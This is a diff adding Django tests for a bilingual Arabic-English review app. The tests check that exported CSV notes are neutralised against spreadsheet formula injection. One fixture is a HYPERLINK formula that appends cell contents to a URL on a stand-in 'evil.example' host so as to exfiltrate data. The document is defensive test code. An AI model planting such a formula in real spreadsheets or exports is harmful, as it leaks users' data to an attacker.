@@ -20,6 +20,7 @@ from apps.bitext.tmx import XML_LANG, read_tmx
 from apps.bitext.worddoc import read_docx
 from apps.corpus.models import Paragraph, Resolution
 from apps.corpus.services import ResolutionMeta, resolution_import
+from apps.review.exchange import csv_cell
 from apps.review.selectors import review_items
 from tests.conftest import demo_sides
 
@@ -242,6 +243,39 @@ class ExportTests(TestCase):
         ar, en = demo_sides()
         assert rows[5]["ar"] == ar[5] and rows[5]["en"] == en[5]
         assert rows[5]["status"] == "auto" and 0 <= float(rows[5]["score"]) <= 1
+
+    def test_csv_notes_that_look_like_formulas_open_as_text_in_a_spreadsheet(self) -> None:
+        """A reviewer's note starting with =, +, - or @ would run as a formula in Excel or
+        LibreOffice (CSV injection): it gets a leading apostrophe, which spreadsheets hide, and
+        every cell is quoted (OWASP); everything else in the row is exactly as stored."""
+        notes = {
+            0: '=HYPERLINK("https://evil.example/?"&B2,"Arabic source")',
+            1: "+971 is the UAE's dialling code, not a paragraph number",
+            2: "-3,400 trucks in the Arabic; the English says 3,800",
+            3: "@Rania: check the date (25 August 2025)",
+        }
+        links = list(Link.objects.of(self.resolution).at("paragraph").order_by("position")[:5])
+        for index, note in notes.items():
+            link_flag(
+                resolution=self.resolution,
+                link_id=links[index].pk,
+                version=links[index].version,
+                user=self.user,
+                note=note,
+            )
+        response = self.client.get(
+            reverse("review:export-csv", kwargs={"slug": "demo"}), {"level": "paragraph"}
+        )
+        text = response.content.decode("utf-8-sig")
+        rows = list(csv.DictReader(io.StringIO(text)))
+        for index, note in notes.items():
+            assert rows[index]["note"] == "'" + note
+        assert rows[4]["note"] == ""
+        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+        assert not [c for c in cells if c[:1] in {"=", "+", "-", "@", "\t", "\r"}]
+        assert all(line.startswith('"') for line in text.splitlines())
+        ar, en = demo_sides()
+        assert (rows[0]["ar"], rows[0]["en"], rows[0]["flagged"]) == (ar[0], en[0], "1")
 
 
 class UdhrOneSidedTests(TestCase):
@@ -538,6 +572,17 @@ class ImportTests(TestCase):
         response = self.post(kind="tmx", token="forged", save="1")
         assert response.status_code == 200
         assert not Resolution.objects.filter(slug="imported").exists()
+
+
+def test_csv_cells_starting_like_a_formula_are_neutralised_and_others_kept() -> None:
+    """Tab and carriage return start a formula too (OWASP); a dash or equals sign inside a
+    cell, Arabic text and numbers are left as they are."""
+    assert csv_cell("\t=1+1") == "'\t=1+1"
+    assert csv_cell("\r=1+1") == "'\r=1+1"
+    assert csv_cell("=1+1") == "'=1+1"
+    assert csv_cell("يقرر - بالإجماع - أن") == "يقرر - بالإجماع - أن"
+    assert csv_cell("Decides = adopts") == "Decides = adopts"
+    assert csv_cell(0.8123) == "0.8123"
 
 
 def test_read_tmx_from_another_tool() -> None:
